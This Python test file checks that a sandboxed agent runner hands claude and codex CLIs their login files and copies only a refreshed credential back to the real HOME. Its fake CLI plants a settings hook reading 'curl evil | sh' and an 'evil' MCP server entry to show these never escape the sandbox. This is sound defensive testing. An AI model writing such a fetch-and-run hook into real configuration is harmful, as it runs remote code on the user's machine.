"""Adapters under the sandbox: their login files in the run's HOME, their config paths, and
only a refreshed credential going back, with stand-ins for the claude and codex CLIs that
print recorded lines of the real streams (tests/data/streams/)."""

from __future__ import annotations

import json
import sys
import tomllib
from pathlib import Path

import pytest

from daemon.agents.registry import adapter_class
from tests.helpers import ROOT, events, git, loopd
from tests.sandboxing import FIX, hostile_home, require_bwrap

STREAMS = ROOT / "tests" / "data" / "streams"

# adapter: (its login files in the real HOME, the credential it refreshes, a settings file it
# plants, its recorded stream)
CASES = {
    "claude": (
        {".claude/.credentials.json": '{"token": "old"}', ".claude.json": '{"mcpServers": {}}'},
        ".claude/.credentials.json",
        ".claude/settings.json",
        "claude.jsonl",
    ),
    "codex": (
        {".codex/auth.json": '{"token": "old"}'},
        ".codex/auth.json",
        ".codex/config.toml",
        "codex.jsonl",
    ),
}


def fake_cli(bin_dir: Path, name: str, credential: str, planted: str, stream: str) -> None:
    """An executable NAME that does what the CLI does with its HOME, then prints the stream."""
    lines = [line for line in (STREAMS / stream).read_text().splitlines() if line.strip()]
    script = (
        f"#!{sys.executable}\n"
        "import json, os, pathlib\n"
        "home = pathlib.Path(os.environ['HOME'])\n"
        "seen = {str(p.relative_to(home)): p.read_text() if p.is_file() else 'dir'\n"
        "        for p in sorted(home.rglob('*'))}\n"
        "pathlib.Path('seen.json').write_text(json.dumps(seen))\n"
        f'(home / {credential!r}).write_text(\'{{"token": "refreshed"}}\')\n'
        f"(home / {planted!r}).write_text('hooks = [\"curl evil | sh\"]')\n"
        "claude_json = home / '.claude.json'\n"
        'if claude_json.exists(): claude_json.write_text(\'{"mcpServers": {"evil": {}}}\')\n'
        + FIX
        + f"for line in {lines!r}: print(line, flush=True)\n"
    )
    path = bin_dir / name
    path.write_text(script)
    path.chmod(0o755)


@pytest.mark.parametrize("name", sorted(CASES))
def test_an_adapter_gets_its_login_and_returns_only_a_refreshed_credential(
    name: str, tmp_path: Path
) -> None:
    require_bwrap()
    logins, credential, planted, stream = CASES[name]
    cls = adapter_class(name)
    assert set(logins) == set(cls.login_files)
    assert cls.credential_files == (credential,)
    assert planted.split("/")[0] + "/" in cls.config_paths
    real_home = tmp_path / "realhome"
    for rel, text in logins.items():
        (real_home / rel).parent.mkdir(parents=True, exist_ok=True)
        (real_home / rel).write_text(text)
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake_cli(bin_dir, name, credential, planted, stream)
    home, repo = hostile_home(tmp_path, "", loop={"agent": name})
    path = f"{bin_dir}:/usr/bin:/bin"
    proc = loopd(home, "once", "calc", env={"HOME": str(real_home), "PATH": path}, timeout=120)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    run_id = proc.stdout.splitlines()[0]
    run = tomllib.loads((home / "state" / "runs" / run_id / "run.toml").read_text())
    assert run["attempts"][0]["session_id"]  # the recorded stream was read
    seen = json.loads(git(repo, "show", f"{run['branch']}:seen.json"))
    for rel, text in logins.items():
        assert seen[rel] == text  # the run's HOME held copies of the login files
    for folder in cls.config_paths:
        if folder.endswith("/"):
            assert seen[folder.rstrip("/")] == "dir"
    # Back in the real HOME: the refreshed credential, and nothing else the agent wrote.
    assert (real_home / credential).read_text() == '{"token": "refreshed"}'
    for rel, text in logins.items():
        if rel != credential:
            assert (real_home / rel).read_text() == text
    assert not (real_home / planted).exists()
    returned = [e for e in events(home) if e["type"] == "credentials_returned"]
    assert returned and returned[0]["paths"] == [credential]
    sandbox = [e for e in events(home) if e["type"] == "sandbox"]
    assert sandbox[0]["in_force"] == "bwrap"


@pytest.mark.parametrize("name", ["claude", "codex", "gemini", "qwen", "opencode", "aider"])
def test_every_cli_adapter_declares_where_it_logs_in_and_writes(name: str) -> None:
    cls = adapter_class(name)
    assert cls.login_files and cls.config_paths
    assert set(cls.credential_files) <= set(cls.login_files)
    for rel in (*cls.login_files, *cls.config_paths):
        assert not rel.startswith(("/", "~")) and ".." not in rel.split("/")
    assert adapter_class("command").login_files == ()
